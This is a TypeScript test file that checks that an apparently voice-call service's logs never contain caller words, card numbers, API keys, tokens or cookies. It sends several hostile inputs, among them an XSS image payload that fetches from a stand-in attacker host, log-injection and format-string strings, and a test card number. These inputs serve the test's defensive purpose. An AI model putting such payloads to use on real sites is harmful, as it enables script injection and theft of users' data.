/** Whatever a caller says and however a call goes wrong: no line of the log has their words, a key, a token or a number. */
import { configureSync, jsonLinesFormatter, type LogRecord } from "@logtape/logtape";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { Browser } from "../support/workerd/caller.ts";
import { Phone } from "../support/workerd/phone.ts";
import { GOOD_KEY, provide } from "../support/workerd/provider.ts";

const lines: string[] = [];
const printed: string[] = [];

beforeAll(() => {
  configureSync({
    reset: true,
    sinks: { lines: (record: LogRecord) => void lines.push(jsonLinesFormatter(record)) },
    loggers: [
      { category: ["logtape", "meta"], sinks: ["lines"], lowestLevel: "warning" },
      { category: "luna", sinks: ["lines"], lowestLevel: "debug" },
    ],
  });
  for (const level of ["log", "info", "warn", "error", "debug"] as const) {
    vi.spyOn(console, level).mockImplementation((...what) => void printed.push(what.map(String).join(" ")));
  }
});
afterAll(() => vi.restoreAllMocks());

const WORDS = "gooseberrytrombone";
const SAID = [
  `My name is ${WORDS} and my card is 4111 1111 1111 1111.`,
  `{"level":"error","message":"${WORDS}"}\n\u001b[31m${WORDS}`,
  `<img src=x onerror="fetch('//evil.example/${WORDS}')">`,
  `%s %d %o {call} {{error}} ${WORDS}`,
];

test("a hostile call, bad frames, a broken provider and bad requests leave nothing of themselves in the log", async () => {
  provide({ hears: true });
  const browser = new Browser();
  const scripted = await Phone.call({ scenario: "block-card", mode: "scripted" }, browser);
  await scripted.turn(0);
  for (const words of SAID) await scripted.ask(words);
  scripted.send({ type: WORDS } as never);
  scripted.send({ type: "luna.key", key: `sk-${WORDS}` });
  scripted.hangUp();
  await scripted.finalRecord();

  const ai = await Phone.call({ scenario: "block-card", key: GOOD_KEY }, browser);
  await ai.until("the first words", () => ai.line === "listening", 20_000);
  await ai.ask(SAID[0] ?? "", 20_000);
  ai.hangUp();
  await ai.finalRecord();
  vi.mocked(globalThis.fetch).mockRestore();

  const refused = await Phone.call({ scenario: "block-card", key: `sk-wrong-${WORDS}` }, browser);
  await refused.ask(SAID[0] ?? "", 20_000);
  refused.hangUp();
  await refused.finalRecord();

  const evil = encodeURIComponent(WORDS);
  await browser.fetch(`/api/calls/${evil}/recording`);
  await browser.fetch(`/api/${evil}?key=sk-${evil}`, { headers: { authorization: `Bearer lk_${WORDS}` } });
  await browser.post("/api/calls", { scenario: WORDS, key: WORDS });
  await browser.post("/api/calls", `not json ${WORDS}`);
  await browser.fetch("/v1/models", { headers: { authorization: `Bearer lk_${WORDS}` } });
  await scheduler.wait(200);

  const all = [...lines, ...printed].join("\n");
  // There is something to search in.
  expect(lines.filter((line) => line.includes('"Call ended"')).length).toBeGreaterThanOrEqual(3);
  expect(all).not.toMatch(new RegExp(WORDS, "i"));
  expect(all).not.toMatch(/4111|1111 1111|planted|sk-|lk_|luna\.token/);
  expect(all).not.toContain(scripted.opened.token);
  expect(all).not.toContain(browser.cookie.split("=")[1]);
  // Messages are static: all that differs is in properties.
  const messages = new Set(lines.map((line) => (JSON.parse(line) as { message: string }).message));
  for (const message of messages) expect(message, message).toMatch(/^[A-Z][A-Za-z0-9 ,':-]+$/);
}, 60_000);
